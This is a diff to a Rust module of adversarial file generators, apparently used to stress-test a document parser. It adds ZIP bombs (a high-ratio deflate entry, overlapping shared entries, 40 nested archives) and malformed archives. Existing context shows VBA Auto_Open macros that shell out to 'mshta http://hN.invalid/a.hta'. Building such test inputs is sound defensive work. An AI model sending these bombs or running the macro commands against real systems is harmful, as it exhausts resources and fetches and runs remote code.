@@ -9,6 +9,7 @@ use crate::container::{EXCEL_8, Entry, compound_file};
 use crate::ptg::{At, Class, Tokens};
 use crate::raw_cfb::{Node, RawCfb};
 use crate::vba;
+use crate::zip::{Member, Zip};
 
 /// A name, and a function from about how many bytes to a file.
 pub type Generator = (&'static str, fn(usize) -> Vec<u8>);
@@ -56,6 +57,12 @@ pub const ALL: &[Generator] = &[
     ("vba_one_long_line", vba_one_long_line),
     ("vba_of_strings", vba_of_strings),
     ("vba_of_addresses", vba_of_addresses),
+    ("zip_of_spaces", zip_of_spaces),
+    ("zip_of_tiny_entries", zip_of_tiny_entries),
+    ("zip_of_one_shared_entry", zip_of_one_shared_entry),
+    ("zip_of_local_headers", zip_of_local_headers),
+    ("zip_of_end_records", zip_of_end_records),
+    ("zips_in_zips", zips_in_zips),
 ];
 
 const BOF: u16 = 0x0809;
@@ -708,6 +715,47 @@ pub fn vba_of_strings(size: usize) -> Vec<u8> {
 pub fn vba_of_addresses(size: usize) -> Vec<u8> {
     let line = |index: usize| format!("Shell \"mshta http://h{index}.invalid/a.hta\"");
     lines(size, "Sub Auto_Open()\r\n", line, "End Sub\r\n")
+}
+
+/// An entry that becomes a thousand times its size.
+pub fn zip_of_spaces(size: usize) -> Vec<u8> {
+    let most = size.saturating_mul(1000).min(64 << 20);
+    Zip::of([Member::deflated("a.xml", &vec![b' '; most])]).into_bytes()
+}
+
+/// Entries of a byte each.
+pub fn zip_of_tiny_entries(size: usize) -> Vec<u8> {
+    Zip::of((0..size / 100).map(|index| Member::stored(&format!("{index}"), b"x"))).into_bytes()
+}
+
+/// A directory whose entries all are one large entry.
+pub fn zip_of_one_shared_entry(size: usize) -> Vec<u8> {
+    let first = Member::deflated("a", &vec![b' '; 1 << 20]);
+    let shared = (1..size / 50).map(|_| Member { shares: Some(0), packed: Vec::new(), ..first.clone() });
+    let mut members = vec![first.clone()];
+    members.extend(shared.map(|member| Member { packed: first.packed.clone(), ..member }));
+    Zip::of(members).into_bytes()
+}
+
+/// Local headers whose sizes are not stated, and no directory.
+pub fn zip_of_local_headers(size: usize) -> Vec<u8> {
+    let members =
+        (0..size / 48).map(|_| Member { descriptor: true, listed: false, ..Member::deflated("a", b"") });
+    Zip { without_end: true, ..Zip::of(members) }.into_bytes()
+}
+
+/// End records that lead nowhere.
+pub fn zip_of_end_records(size: usize) -> Vec<u8> {
+    b"PK\x05\x06\0\0\0\0\x01\0\x01\0".repeat(size / 12)
+}
+
+/// Archives in archives.
+pub fn zips_in_zips(size: usize) -> Vec<u8> {
+    let mut out = Zip::of([Member::deflated("a.xml", &vec![b' '; size])]).into_bytes();
+    for _ in 0..40 {
+        out = Zip::of([Member::deflated("a.zip", &out)]).into_bytes();
+    }
+    out
 }
 
 #[cfg(test)]
